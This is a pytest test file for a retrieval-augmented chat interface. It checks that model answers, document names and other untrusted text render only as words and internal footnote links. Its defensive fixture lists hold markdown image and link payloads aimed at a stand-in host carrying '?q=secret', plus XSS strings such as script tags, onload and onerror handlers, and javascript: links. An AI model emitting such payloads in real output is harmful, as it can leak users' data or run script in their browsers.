"""What a model, a document or a reader writes is shown as words, and does nothing else."""

import re
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from typing import Literal

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag import Answer, Change, CheckedSentence, Citation, Message, Passage, Sent
from rag.answering.citations import CitationResolver
from rag.types import Finish, Gap, Verdict
from ui import text as page_text
from ui.chats.exporting import to_html
from ui.chats.turns import Turn
from ui.rendering.prose import answer_html
from ui.web.answers import messages, turn_html

EVIL = "https://evil.example/?q=secret"
HOSTILE = [
    f"![the answer]({EVIL})",
    f'![the answer]({EVIL} "title")',
    f"![the answer][1]\n\n[1]: {EVIL}",
    f"![1]({EVIL})",
    f"![]({EVIL})",
    f"![a ![b]({EVIL})]({EVIL})",
    f"![a\nb]({EVIL})",
    f"[click]({EVIL})",
    f"[click](<{EVIL}>)",
    f"[1]({EVIL})",
    f"[[1]]({EVIL})",
    f"[![1]({EVIL})]({EVIL})",
    f"[click][here]\n\n[here]: {EVIL}",
    f"[click][]\n\n[click]: {EVIL}",
    f"[click]\n\n  [click]: <{EVIL}> 'title'",
    f"[1]: {EVIL}\n\nIt is so [1].",
    f"[1]:\n{EVIL}\n\nIt is so [1].",
    f"> [1]: {EVIL}\n\nIt is so [1].",
    f"- [1]: {EVIL}\n\nIt is so [1].",
    f"[1]: {EVIL}\n[2]: {EVIL}\n\nIt is so [1][2].",
    f"[a\\]b]({EVIL})",
    f"[a](\n{EVIL}\n)",
    f"[a]({EVIL}(x(y)z))",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    f"<{EVIL}>",
    EVIL,
    "www.evil.example",
    "me@evil.example",
    f"<img src={EVIL}>",
    f'<a href="{EVIL}">click</a>',
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<!-- hidden -->",
    "<style>* {display: none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "`code` <b>bold</b> `code`",
    "`<b>` <b>bold</b>",
    "``a ` b`` <b>bold</b>",
    f"``[click]({EVIL})`",
    f"`` ` `` [click]({EVIL}) ` ``",
    f"\\`[click]({EVIL})\\`",
    f"```\ncode\n```\n[click]({EVIL})",
    f"a ``` b [click]({EVIL}) c",
    f"```a`b\n[click]({EVIL})",
    "    \n```\n<b>\n``` x\n",
    f"~~~\n`[click]({EVIL})`\n~~~",
    f"&lt;a href={EVIL}&gt; &#60;b&#62;",
]

OUR_TAGS = {
    *(
        "div",
        "span",
        "p",
        "b",
        "br",
        "a",
        "ol",
        "ul",
        "li",
        "button",
        "details",
        "summary",
        "em",
        "strong",
        "s",
        "code",
        "pre",
        "blockquote",
        "hr",
    ),
    *("details", "summary"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
OUR_ATTRIBUTES = {"class", "href", "title", "role", "type", "start", "style", "id"}

# The chatbot reads our HTML as Markdown: it must find one block of HTML, and leave it alone.
CHATBOT = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


@dataclass
class Shown(HTMLParser):
    """What a browser makes of HTML: tags, links and words."""

    html: str
    tags: set[str] = field(default_factory=set)
    attributes: list[tuple[str, str]] = field(default_factory=list)
    words: str = ""

    def __post_init__(self) -> None:
        super().__init__()
        self.feed(self.html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data

    @property
    def targets(self) -> list[str]:
        return [value for name, value in self.attributes if name == "href"]


def check_harmless(html: str) -> None:
    shown = Shown(html)
    assert shown.tags <= OUR_TAGS
    assert {name for name, _ in shown.attributes} <= OUR_ATTRIBUTES
    assert all(re.fullmatch(r"(retry|edit|note|up|down)-abcd", value) for name, value in shown.attributes if name == "id")
    assert all(target.startswith("#src-") for target in shown.targets)
    assert all(value.startswith("text-align:") for name, value in shown.attributes if name == "style")


def resolved(markdown: str) -> Answer:
    """What comes of a model's words."""
    resolver = CitationResolver([passage(rank) for rank in range(1, 4)])
    text = resolver.feed(markdown) + resolver.finish()
    return Answer("Why?", text, resolver.citations, (), "stand-in", "complete", "", 1.0)


def shown_html(markdown: str) -> str:
    return str(answer_html(resolved(markdown), lambda index: f'<a href="#src-{index}">{index}</a>'))


def body(markdown: str) -> Shown:
    return Shown(shown_html(markdown))


def test_a_table_scrolls_in_a_box_of_its_own() -> None:
    html = shown_html("| a | b |\n|---|---|\n| 1 | 2 |")
    assert html.startswith('<div class="fn-grid" tabindex="0"><table>')
    assert html.rstrip().endswith("</table>\n</div>")


@pytest.mark.parametrize("markdown", HOSTILE)
def test_model_text_has_no_images_links_or_html(markdown: str) -> None:
    check_harmless(shown_html(markdown))


MARKS = ["```", "~~~", "``", "[1]", "[1]:", "](", "![", "](<", f"({EVIL})", "[a]: /b\n", "<b>", "</b>", "<!--"]
PIECES = st.sampled_from([*"![]()<>`\\&;:\n \"'#-", *MARKS, "word", "\n\n", "    ", "> ", "- "])


@settings(max_examples=400)
@given(st.lists(PIECES, max_size=24).map("".join))
@example(f"[a][b]\n[b]: {EVIL}")
def test_no_mixture_of_marks_becomes_an_image_link_or_html(markdown: str) -> None:
    check_harmless(shown_html(markdown))
    for message in messages([Turn("abcd", "Why?", resolved(markdown), "done")]):
        assert isinstance(message, dict)
        assert isinstance(message["content"], str)
        (block,) = CHATBOT.parse(message["content"])
        assert block.type == "html_block"


def test_what_answers_are_made_of_stays() -> None:
    text = (
        "## Oiling\n\nOil it **twice** a year [1], *in April* [2][3]:\n\n1. Wash it\n2. Dry it\n\n- a cloth\n\n"
        "| month | coats |\n|---|---|\n| April | 2 |\n\n> Wait a day.\n\n```python\nif a < b and c[1]: print('<b>')\n```\n\nUse `x[1] < 2`."
    )
    shown = body(text)
    assert {"h2", "strong", "em", "ol", "ul", "table", "blockquote", "pre", "code"} <= shown.tags
    assert shown.targets == ["#src-0", "#src-1", "#src-2"]
    assert "if a < b and c[1]: print('<b>')" in shown.words
    assert "x[1] < 2" in shown.words


def test_words_of_what_was_taken_out_stay() -> None:
    assert body(f"See ![the chart]({EVIL}) and [the page]({EVIL}).").words.strip() == "See the chart and the page."
    assert body("if a < b && b > c: <b>bold</b>").words.strip() == "if a < b && b > c: <b>bold</b>"
    assert body(f"See {EVIL}.").words.strip() == f"See {EVIL}."


@pytest.mark.parametrize("written", ["So it is [1].", f"So it is [1]({EVIL}).", f"So it is [[1]]({EVIL})."])
def test_a_footnote_written_as_a_link_is_a_footnote(written: str) -> None:
    assert body(written).targets == ["#src-0"]


WORDS_OF_STRANGERS = [
    "notes *final* _v2_ [1](x) ![a](b) <img src=x onerror=alert(1)>.pdf",
    "# heading.pdf",
    "- list.pdf",
    "+ list.pdf",
    "1. list.pdf",
    "12) list.pdf",
    "> quote.pdf",
    "| a | b |",
    "`code`.pdf",
    "www.evil.example.pdf",
    f"{EVIL}.pdf",
    "me@evil.example",
    "<https://evil.example>",
    "a\\*b\\",
    "&lt;b&gt; &amp;amp; &copy;",
    "~~gone~~ $x$",
    "a & b < c > d",
    "=====",
    "---",
    "***",
    "```",
    "    indented",
    "[a]: /b",
]


def passage(rank: int, name: str = "handbook.pdf", page: int = 3, label: str = "3", heading: str = "") -> Passage:
    return Passage(rank, 0.9, 0.9, name, "d" * 64, page, label, 0, 12, "Some words.", heading)


def turn(
    text: str, *citations: Citation, notice: str = "", model: str = "stand-in", finish: Finish = "complete", searched: str = ""
) -> Turn:
    """An answer with these citations at its `[n]`, in turn."""
    passages = tuple(citation.passage for citation in citations)
    places = [match.start() for match in re.finditer(r"(?<!\w)\[\d\]", text)]
    citations = tuple(replace(citation, position=place) for citation, place in zip(citations, places, strict=True))
    return Turn("abcd", "Why?", Answer("Why?", text, citations, passages, model, finish, notice, 1.25, searched), "done")


def test_footnotes_become_links_to_their_citations() -> None:
    one, two = Citation.of_words(1, passage(1)), Citation.of_words(2, passage(2, "notes.txt", 1, "1"))
    again = Citation.of_words(1, passage(1), 0, 4)
    shown = Shown(turn_html(turn("First [1]. Second [2]. Third [1]. `x[1]`", one, two, again)))
    assert shown.targets == ["#src-abcd-0", "#src-abcd-1", "#src-abcd-2", "#src-abcd-0", "#src-abcd-1"]
    assert "x[1]" in shown.words
    assert "handbook.pdf, page 3" in shown.words
    assert "3 passages" in shown.words


def test_a_number_that_is_no_footnote_stays_a_number() -> None:
    cited = Citation.of_words(1, passage(1), position=len("He wrote “see [1]” there "))
    shown = Shown(turn_html(Turn("abcd", "Why?", replace(resolved(""), text="He wrote “see [1]” there [1].", citations=(cited,)), "done")))
    assert shown.targets == ["#src-abcd-0"] * 2
    assert "He wrote “see [1]” there 1." in shown.words


def test_each_source_is_listed_once_with_its_printed_page() -> None:
    citations = [Citation.of_words(1, passage(1, page=14, label="12")), Citation.of_words(1, passage(1, page=14, label="12"), 0, 4)]
    shown = Shown(turn_html(turn("It is so [1][1].", *citations)))
    assert shown.targets == ["#src-abcd-0", "#src-abcd-1", "#src-abcd-0"]
    assert shown.words.count("handbook.pdf, page 14 (printed 12)") == 1


@pytest.mark.parametrize("words", [*WORDS_OF_STRANGERS, *HOSTILE])
def test_hostile_names_notices_models_questions_and_problems_stay_words(words: str) -> None:
    done = turn("So it is [1].", Citation.of_words(1, passage(1, words, heading=words)), notice=words, model=words, searched=words)
    failed = replace(done, question=words, state="failed", problem=words)
    for message in messages([done, failed]):
        assert isinstance(message, dict)
        check_harmless(str(message["content"]))
    plain = " ".join(words.split())
    shown = Shown(str(messages([failed])[1]["content"]))  # type: ignore[index]
    assert plain in " ".join(shown.words.split())
    assert f"{page_text.SEARCHED} “{plain}”" in " ".join(Shown(turn_html(done)).words.split())
    assert set(shown.targets) == {"#src-abcd-0"}


def test_a_turn_shows_how_it_stands() -> None:
    done = turn("So it is [1].", Citation.of_words(1, passage(1)))
    assert Shown(turn_html(replace(done, state="growing"))).words.strip() == "So it is 1."
    assert "kept" in turn_html(replace(done, state="stopped"))
    assert "The server is away" in turn_html(replace(done, answer=None, state="failed", problem="The server is away"))
    assert "Searching" in turn_html(Turn("abcd", "Why?"))


def test_what_was_changed_is_marked_and_the_original_is_a_click_away() -> None:
    done = turn("So it is [1].", replace(Citation.of_words(1, passage(1)), sentence="So it is.", verdict="supported"))
    assert done.answer
    changes = (Change("regenerated", "It is <b>not</b> so.", "So it is."), Change("dropped", "Nor that.", ""))
    changed = replace(done.answer, sentences=(CheckedSentence(0, 13, "supported", (0,)),), changes=changes)
    html = turn_html(replace(done, answer=changed))
    assert html.count("fn-changed") == 1
    assert "<summary>2 sentences that no passage supports were changed</summary>" in html
    for words in ("Rewritten from the passage; the model wrote: “It is <b>not</b> so.”", "Left out; the model wrote: “Nor that.”"):
        assert words in Shown(html).words
        assert words.replace("<b>not</b>", "").split("“")[0] in to_html("Why?", [replace(done, answer=changed)])
    assert "fn-changes" not in turn_html(done)


def test_a_footnote_names_the_headings_it_stands_under() -> None:
    shown = Shown(turn_html(turn("It is so [1].", Citation.of_words(1, passage(1, heading="Leave > Carrying over")))))
    assert "handbook.pdf, page 3 · Leave > Carrying over" in shown.words


@pytest.mark.parametrize("state", ["growing", "done", "stopped", "failed"])
def test_what_was_searched_is_told_where_it_is_not_what_was_asked(state: Literal["growing", "done", "stopped", "failed"]) -> None:
    told = replace(turn("", searched="Why is\nthe sky blue?"), state=state)
    assert f"{page_text.SEARCHED} “Why is the sky blue?”" in Shown(turn_html(told)).words
    for same in ("Why?", " Why?\n", ""):
        assert page_text.SEARCHED not in Shown(turn_html(replace(turn("", searched=same), state=state))).words


def test_an_answer_that_was_not_found_is_marked_and_is_not_called_a_quotation() -> None:
    cited = Citation.of_words(1, passage(1))
    for model in ("extractive", "stand-in"):
        lost = Shown(turn_html(turn("Not found in your documents. [1]", cited, model=model, finish="not_found")))
        assert ("class", "fn-answer fn-not-found") in lost.attributes
        assert lost.targets == ["#src-abcd-0"] * 2
        assert "quot" not in lost.words
        assert "own sentences" not in lost.words
    quoted = Shown(turn_html(turn("“So it is.” [1]", cited, model="extractive")))
    assert ("class", "fn-answer") in quoted.attributes
    assert page_text.QUOTED_NOTICE in quoted.words


def test_an_empty_library_is_not_taken_for_quotations() -> None:
    words = Shown(turn_html(turn("There are no documents yet.", model="extractive", finish="not_found"))).words
    assert "0 passages" in words
    assert "chat model" not in words


def test_what_is_to_be_known_of_an_answer_stands_before_its_footnotes() -> None:
    words = Shown(turn_html(turn("So it is [1].", Citation.of_words(1, passage(1)), notice="Check the footnotes."))).words
    assert words.index("So it is") < words.index("Check the footnotes.") < words.index("handbook.pdf")


def checked(*verdicts: tuple[Verdict, bool]) -> Turn:
    """An answer of as many sentences, each with its verdict, with or without a footnote."""
    text, citations, sentences = "", list[Citation](), list[CheckedSentence]()
    for verdict, is_cited in verdicts:
        start = len(text)
        text += "So it is **now**"
        if is_cited:
            citations.append(replace(Citation.of_words(1, passage(1), position=len(text)), verdict=verdict, sentence="So it is now."))
            text += "[1]"
        sentences.append(CheckedSentence(start, len(text), verdict, (len(citations) - 1,) if is_cited else ()))
        text += ".\n\n"
    answer = replace(resolved(""), text=text, citations=tuple(citations), passages=(passage(1),), sentences=tuple(sentences))
    return Turn("abcd", "Why?", answer, "done")


def test_a_sentence_that_does_not_hold_is_marked_in_words() -> None:
    shown = Shown(turn_html(checked(("supported", True), ("related", True), ("unsupported", True), ("unsupported", False))))
    marks = [page_text.MARKS[kind] for kind in ("related", "unsupported", "uncited")]
    assert [value for name, value in shown.attributes if name == "title" and value in marks] == marks
    assert all(f"({words})" in shown.words for words in marks)
    assert "1 of 4" in shown.words
    assert [value for name, value in shown.attributes if name == "class" and "fn-verdict" in value] == [
        *("fn-verdict fn-related", "fn-verdict fn-unsupported", "fn-verdict fn-unsupported")
    ]


def test_words_that_the_source_does_not_say_are_marked_also_across_emphasis() -> None:
    turn = checked(("unsupported", True))
    assert turn.answer
    (sentence,) = turn.answer.sentences
    gaps = Gap(0, 2, "number"), Gap(3, 15, "opposite", is_contradicted=True, stated="<never>")
    html = turn_html(replace(turn, answer=replace(turn.answer, sentences=(replace(sentence, gaps=gaps),))))
    shown = Shown(html)
    assert [value for name, value in shown.attributes if name == "class" and "fn-gap" in value] == [
        *("fn-gap", "fn-gap fn-contradicted", "fn-gap fn-contradicted")
    ]
    assert f"[{page_text.NOT_FOUND}:] So" in shown.words
    assert f"[{page_text.CONTRADICTED} (<never>):] now" in shown.words
    assert html.count("<span") == html.count("</span>")
    assert "<strong>" in html


def test_a_sentence_that_holds_has_no_mark_and_its_number_says_so() -> None:
    shown = Shown(turn_html(checked(("supported", True))))
    assert not any("fn-verdict" in value for _, value in shown.attributes)
    assert any(name == "title" and page_text.VERDICTS["supported"] in value for name, value in shown.attributes)


@pytest.mark.parametrize("words", [*WORDS_OF_STRANGERS, *HOSTILE])
def test_what_was_thought_and_sent_is_folded_and_stays_words(words: str) -> None:
    found = passage(1, words)
    sent = Sent((Message("system", words), Message("user", words)), 1200, 6000, 2, (found,), 1100, 0.5, words)
    whole = Turn("abcd", "Why?", replace(resolved("So it is [1]."), passages=(found,), reasoning=words, sent=sent), "done")
    html = turn_html(whole)
    check_harmless(html)
    shown = Shown(html)
    assert {"details", "summary"} <= shown.tags
    assert shown.words.count(page_text.SENT) == 1
    assert "about 1,200 of" in shown.words
    assert "1,100" in shown.words
    assert page_text.SENT not in turn_html(replace(whole, state="growing"))
    (block,) = CHATBOT.parse(str(messages([whole])[1]["content"]))  # type: ignore[index]
    assert block.type == "html_block"


def test_a_model_that_only_thinks_so_far_is_said_to_think() -> None:
    thinking = Turn("abcd", "Why?", replace(resolved(""), reasoning="Hm.", finish="streaming"), "growing")
    assert page_text.THINKING_STILL in turn_html(thinking)
    assert page_text.THINKING not in turn_html(thinking)
